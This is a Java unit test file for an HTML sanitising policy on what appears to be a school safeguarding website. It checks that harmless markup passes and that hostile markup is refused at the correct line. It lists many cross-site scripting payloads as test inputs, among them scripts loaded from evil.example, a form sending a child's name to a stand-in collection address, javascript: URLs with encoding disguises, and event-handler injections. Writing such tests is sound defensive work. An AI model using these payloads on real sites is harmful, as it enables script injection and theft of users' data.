package org.polisi.site.check;

import org.junit.jupiter.api.Test;

import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What raw HTML may hold: inert markup passes; code, other sites' content and foreign forms are refused, each at its line. */
class HtmlPolicyTest {
    @Test
    void inertMarkupPasses() {
        assertEquals(List.of(), HtmlPolicy.check("<p>Ask <abbr title=\"designated safeguarding lead\">DSL</abbr> or"
                + " <a href=\"https://www.gov.wales/keeping-learners-safe\">Keeping learners safe</a>,"
                + " <a href=\"mailto:office@school.test\">e-mail</a>, <a href=\"#scope\">scope</a>.</p>\n"
                + "<table><tr><th scope=\"col\">A</th><td colspan=\"2\" style=\"color: #333\">B</td></tr></table>\n"
                + "<img src=\"../assets/logo.png\" alt=\"The crest\" width=\"40\"><br><strong>bold</strong><!-- a comment -->"));
    }

    @Test
    void theTestersExamplesAreEachRefusedAtTheirLine() {
        List<HtmlPolicy.Finding> found = HtmlPolicy.check("<script src=\"https://evil.example/x.js\"></script>\n"
                + "<form action=\"https://evil.example/collect\" method=\"post\"><input name=\"child-name\"><button>Send</button></form>\n"
                + "<img src=\"https://evil.example/p.png\" alt=\"x\">\n"
                + "<script>alert(1)</script>\n"
                + "<a href=\"javascript:alert(2)\">x</a>\n"
                + "<iframe src=\"https://evil.example/\"></iframe>\n");
        assertEquals(List.of(1, 2, 2, 2, 3, 4, 5, 6), found.stream().map(HtmlPolicy.Finding::line).toList(), found.toString());
        assertTrue(found.get(0).message().startsWith("<script> runs code"), found.get(0).message());
        assertTrue(found.get(1).message().contains("form::<id>[]"), found.get(1).message());
        assertTrue(found.get(4).message().contains("fetches a file from another site") && found.get(4).message().contains("image::p.png["),
                found.get(4).message());
        assertTrue(found.get(6).message().contains("javascript: address"), found.get(6).message());
        assertTrue(found.get(7).message().startsWith("<iframe> shows another site"), found.get(7).message());
    }

    @Test
    void disguisesAreSeenThroughAsABrowserWouldParseThem() {
        for (String html : List.of(
                "<a href=\"jav&#x61;script:alert(1)\">x</a>",
                "<a href=\" JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"java\tscript:alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
                "<img src=x onerror=alert(1) alt=y>",
                "<p ONMOUSEOVER=\"alert(1)\">x</p>",
                "<svg onload=alert(1)></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<div style=\"background:url(https://evil.example/p.png)\">x</div>",
                "<span style=\"width: expression(alert(1))\">x</span>",
                "<style>@import url(https://evil.example/x.css);</style>",
                "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
                "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
                "<base href=\"https://evil.example/\">",
                "<img srcset=\"a.png 1x, https://evil.example/b.png 2x\" alt=\"x\">",
                "<img src=\"//evil.example/p.png\" alt=\"x\">",
                "<object data=\"https://evil.example/x.swf\"></object>",
                "<embed src=\"https://evil.example/x.swf\">",
                "<video src=\"https://evil.example/v.mp4\"></video>",
                "<body onload=\"alert(1)\">x</body>",
                "<marquee>x</marquee>",
                "<textarea name=\"child\"></textarea>",
                "<noscript><img src=\"https://evil.example/p.png\"></noscript>")) {
            assertTrue(!HtmlPolicy.check(html).isEmpty(), "refused: " + html);
        }
    }
}
